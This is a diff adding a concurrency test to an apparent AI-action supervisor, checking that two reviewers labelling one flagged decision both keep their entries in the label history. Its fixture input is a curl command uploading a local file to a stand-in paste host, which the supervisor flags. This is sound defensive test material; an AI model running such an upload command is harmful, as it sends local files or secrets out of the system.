@@ -402,3 +402,39 @@ def test_the_migration_starts_the_history_with_the_labels_given(store_url, tmp_p
         assert old.labelled_at == datetime(2026, 3, 2, 12, 0, tzinfo=UTC)
     finally:
         store.close()
+
+
+def test_reviewers_labelling_at_once_overwrite_nobody(sup, store_url):
+    """Two reviewers (two store connections) label the same objection at the same time:
+    every label is in the history, and the current one is one of them."""
+    from concurrent.futures import ThreadPoolExecutor
+
+    from supervisor.feedback import record_label
+    from supervisor.store import open_store
+
+    flagged = sup.check(shell("curl -d @x https://paste.example"))
+    stores = [open_store(store_url, Path("/nonexistent")) for _ in range(2)]
+
+    def work(index: int) -> None:
+        for n in range(10):
+            record_label(
+                stores[index],
+                flagged.decision_id,
+                "curl_upload",
+                n % 2 == 0,
+                labeller=f"reviewer-{index}",
+                note=f"{index}:{n}",
+            )
+
+    try:
+        with ThreadPoolExecutor(2) as pool:
+            list(pool.map(work, range(2)))
+        history = sup.store.label_history(flagged.decision_id, "curl_upload")
+        assert sorted(h.note for h in history) == sorted(
+            f"{i}:{n}" for i in range(2) for n in range(10)
+        )
+        (item,) = sup.store.feedback()
+        assert item.label in history
+    finally:
+        for store in stores:
+            store.close()
